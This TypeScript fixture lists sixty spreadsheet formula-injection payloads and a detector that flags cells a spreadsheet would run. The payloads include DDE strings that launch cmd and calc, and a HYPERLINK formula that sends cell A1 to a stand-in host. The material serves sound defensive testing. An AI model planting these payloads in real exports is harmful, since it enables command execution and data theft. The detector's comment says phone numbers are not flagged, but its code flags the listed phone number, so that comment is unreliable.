/** Sixty texts that some spreadsheet would run, or that try to break out of their cell so that it would. */
export const formulaPayloads: readonly string[] = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [`${sign}1+1`, `${sign}SUM(A1:A9)`]),
  ...['\t', '\r', '\n', '\r\n', '\0', ' ', '\u00a0', '\u3000', '\ufeff'].map((lead) => `${lead}=1+1`),
  '\tx', '\rx', '\nx', '\0x', '+1-1', '-2+3', '--1', '=-1', '=A1', '==1', '=+1', '@@1',
  "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","y")', '=HYPERLINK("http://x.example/?q="&A1)', '=WEBSERVICE("http://x.example")', '=IMPORTXML("http://x.example","//a")', '=DDE("cmd";"/C calc";"x")', '=IMAGE("http://x.example/x.png")', '=1+1;=2+2', '=1+1,=2+2',
  '";=1+1', '",=1+1', '"\n=1+1', '"\r\n=1+1,', '\u001f=1+1', "'=1+1", "''=1", '"=1+1"', '="0012"', '="a"&"b"', '+86-138-0013-8000',
];

/** Whether a spreadsheet would run the cell. Plain numbers and phones are none. */
export const runsAsFormula = (cell: string): boolean => !/^[+-]?\d+(\.\d+)?$/.test(cell) && (/^[\s\0]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n\0]/.test(cell));
